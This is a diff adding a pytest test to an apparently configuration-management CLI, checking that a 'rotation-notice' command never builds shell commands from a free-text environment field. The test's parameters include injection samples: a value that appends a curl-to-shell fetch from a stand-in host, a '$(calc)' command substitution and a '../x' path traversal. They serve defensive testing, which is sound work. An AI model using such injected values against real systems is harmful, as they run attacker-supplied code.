@@ -625,3 +625,19 @@ def test_another_tenant_everywhere_is_still_read(capsys, tmp_path, document):
     path.write_text(text)
     code, _, err = run_main(capsys, "status", "--outputs", str(path))
     assert code in (0, 1) and not err, err
+
+
+@pytest.mark.parametrize("environment", ["dev; curl https://evil.example | sh", "$(calc)", "../x"])
+def test_a_rotation_notice_never_builds_a_command_from_the_free_text_environment(
+    capsys, tmp_path, document, environment
+):
+    after = copy.deepcopy(document)
+    for portal in after["portals"].values():
+        portal["environment"] = environment
+    before = copy.deepcopy(document)
+    before["portals"]["hr"]["secretKeyId"] = "00000000-1111-4222-8333-444444444444"
+    argv = ["rotation-notice", "--outputs", write(tmp_path, after), "--before", write(tmp_path, before, "before.json")]
+    code, out, err = run_main(capsys, *argv)
+    assert code == 0 and "hr" in out, err
+    commands = [line for line in out.splitlines() if "--stack" in line]
+    assert commands and all("--stack <stack>" in line for line in commands), commands
